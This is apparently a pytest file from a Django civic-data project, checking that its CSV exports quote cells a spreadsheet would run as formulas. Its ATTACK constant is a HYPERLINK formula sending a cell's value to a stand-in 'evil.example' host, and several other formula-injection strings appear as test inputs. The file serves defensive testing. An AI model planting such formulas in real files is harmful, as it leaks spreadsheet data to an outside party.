"""No CSV civicloop hands out carries a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.cache import cache

from civicloop.core.spreadsheet import safe_cell
from civicloop.measure.loads import problems_csv
from civicloop.measure.models import Load
from civicloop.results.models import Area

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-"])
def test_formulas_are_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+2", "-1e5", ".5", -3.5, 7, None, "North Harbor"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_the_open_data_csv_quotes_a_formula_in_a_name(client, riverton):
    area = (
        Area.objects.filter(collaborative=riverton, code="riverton").first()
        or Area.objects.filter(collaborative=riverton).first()
    )
    Area.objects.filter(pk=area.pk).update(name=ATTACK)
    cache.clear()  # the public site caches its files
    text = client.get("/public/c/riverton/data/riverton.csv").content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + ATTACK in cells and ATTACK not in cells
    values = [
        row[csv_header(text).index("value")] for row in list(csv.reader(io.StringIO(text)))[1:]
    ]
    assert all(not v.startswith("'") for v in values)


def csv_header(text: str) -> list[str]:
    return next(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
def test_a_load_problems_file_quotes_a_formula_column(riverton):
    load = Load(
        collaborative=riverton,
        problems=[{"row": 2, "column": "@cmd", "message": "-value is not a number"}],
    )
    rows = list(csv.reader(io.StringIO(problems_csv(load))))
    assert rows[1] == ["2", "'@cmd", "'-value is not a number"]
